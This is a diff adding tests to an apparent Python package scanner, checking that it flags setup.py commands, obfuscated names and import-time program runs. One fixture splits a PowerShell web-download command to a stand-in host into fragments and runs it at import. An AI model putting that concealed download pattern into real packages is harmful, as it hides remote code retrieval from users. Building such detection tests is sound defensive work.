@@ -153,3 +153,42 @@ def test_rules_doc_is_current() -> None:
     assert doc.read_text(encoding="utf-8") == rules_markdown(), (
         "regenerate: python -m snakewarden.analysis.docs > docs/rules.md"
     )
+
+
+def _setup_with(line: str) -> str:
+    return f"import os\nfrom setuptools import setup\n{line}\nsetup(name='demo', version='0.1')\n"
+
+
+def test_setup_running_a_program_unasked_is_suspicious_but_cd_is_not() -> None:
+    runs = analyze(tree({"setup.py": _setup_with("os.system('./helper.sh')")}), target="x")
+    cds = analyze(tree({"setup.py": _setup_with("os.system(f'cd {os.getcwd()}')")}), target="y")
+    assert runs.verdict is not Verdict.CLEAN
+    assert cds.verdict is Verdict.CLEAN
+
+
+def test_command_split_into_fragments_is_suspicious_at_import() -> None:
+    code = (
+        "import subprocess\n"
+        "parts = ['po', 'wer', 'sh', 'ell -C ', 'iwr https://example.invalid/a']\n"
+        "cmd = ''.join(parts)\n"
+        "subprocess.run(cmd, shell=True)\n"
+    )
+    plain = "import subprocess\ncmd = 'make'\nsubprocess.run(cmd, shell=True)\n"
+    assert analyze(tree({"demo/__init__.py": code}), target="x").verdict is not Verdict.CLEAN
+    assert analyze(tree({"demo/__init__.py": plain}), target="y").verdict is Verdict.CLEAN
+
+
+def test_machine_obfuscated_setup_py_is_not_clean() -> None:
+    names = [f"lIlI{'lI' * 7}{'I' * i}" for i in range(10)]
+    body = "".join(f"{n} = {i}\n" for i, n in enumerate(names))
+    setup_py = "from setuptools import setup\n" + body + "setup(name='demo', version='0.1')\n"
+    assert analyze(tree({"setup.py": setup_py}), target="x").verdict is not Verdict.CLEAN
+
+
+def test_program_run_on_import_outweighs_the_same_call_in_a_function() -> None:
+    top = "import os\nos.system('helper --quiet')\n"
+    inside = "import os\n\ndef run():\n    os.system('helper --quiet')\n"
+    at_import = analyze(tree({"demo/__init__.py": top}), target="x")
+    in_function = analyze(tree({"demo/__init__.py": inside}), target="y")
+    assert at_import.score > in_function.score
+    assert in_function.verdict is Verdict.CLEAN
